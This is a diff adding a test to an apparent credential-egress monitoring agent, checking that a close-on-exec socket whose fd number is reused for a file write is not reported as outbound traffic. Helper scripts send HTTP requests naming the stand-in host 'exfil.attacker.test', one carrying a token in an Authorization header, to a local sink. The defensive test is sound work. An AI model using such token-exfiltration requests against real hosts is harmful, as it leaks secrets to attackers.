@@ -2,9 +2,11 @@
 """Outbound TCP: credentials in what processes send, attributed to the destination."""
 import json
 import os
+import shutil
 import socket
 import subprocess
 import sys
+import tempfile
 import threading
 import time
 
@@ -282,3 +284,63 @@ def test_connection_of_a_process_that_exits_without_close_is_forgotten_in_the_ke
     finally:
         agent.stop()
         sink.close()
+
+
+CONNECT_AND_EXEC = r"""
+import os, socket, sys
+# connected as fd 100: far from the numbers the new image's start-up opens and closes
+first = socket.socket()
+os.dup2(first.fileno(), 100, inheritable=False)
+first.close()
+s = socket.socket(fileno=100)
+s.connect(("127.0.0.1", int(sys.argv[1])))
+s.sendall(b"GET / HTTP/1.1\r\nHost: exfil.attacker.test\r\n\r\n")
+s.recv(4096)
+# the socket is close-on-exec: the new image finds its fd number free
+os.execv(sys.executable, [sys.executable, "-c", sys.argv[2], str(s.fileno()), sys.argv[3]])
+"""
+
+WRITE_A_FILE_AT_THAT_FD = r"""
+import os, sys
+fd, path = int(sys.argv[1]), sys.argv[2]
+token = sys.stdin.readline().strip()
+f = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
+os.dup2(f, fd)
+os.write(fd, ("GET /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token %s"
+              "\r\n\r\n" % token).encode())
+print("written", flush=True)
+sys.stdin.readline()
+"""
+
+
+def test_socket_closed_on_exec_is_not_taken_for_the_file_at_its_fd_number():
+    """A close-on-exec socket goes with exec without a close() the probes see. The new image's
+    writes to another file at the same fd number are not the connection's egress: no alert,
+    and the kernel's entry is gone."""
+    require_root()
+    sink = Sink()
+    agent = Agent("--include-loopback")
+    token = github_token()
+    d = tempfile.mkdtemp()
+    try:
+        child = subprocess.Popen(
+            [sys.executable, "-c", CONNECT_AND_EXEC, str(sink.port), WRITE_A_FILE_AT_THAT_FD,
+             os.path.join(d, "out.txt")],
+            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+        child.stdin.write(token + "\n")
+        child.stdin.flush()
+        assert child.stdout.readline().strip() == "written"
+        with open(os.path.join(d, "out.txt")) as f:
+            assert token in f.read()	# the write happened, at that fd
+        time.sleep(1.5)	# the agent drains every 100 ms
+        tracked = {k for k in _kernel_conns(agent) if k[0] == child.pid}
+        child.stdin.write("\n")
+        child.stdin.flush()
+        child.wait()
+    finally:
+        agent.stop()
+        sink.close()
+        shutil.rmtree(d)
+    assert not egress(agent.lines, sink.port), agent.lines
+    assert not tracked, tracked
+    agent.assert_no_plaintext(token)
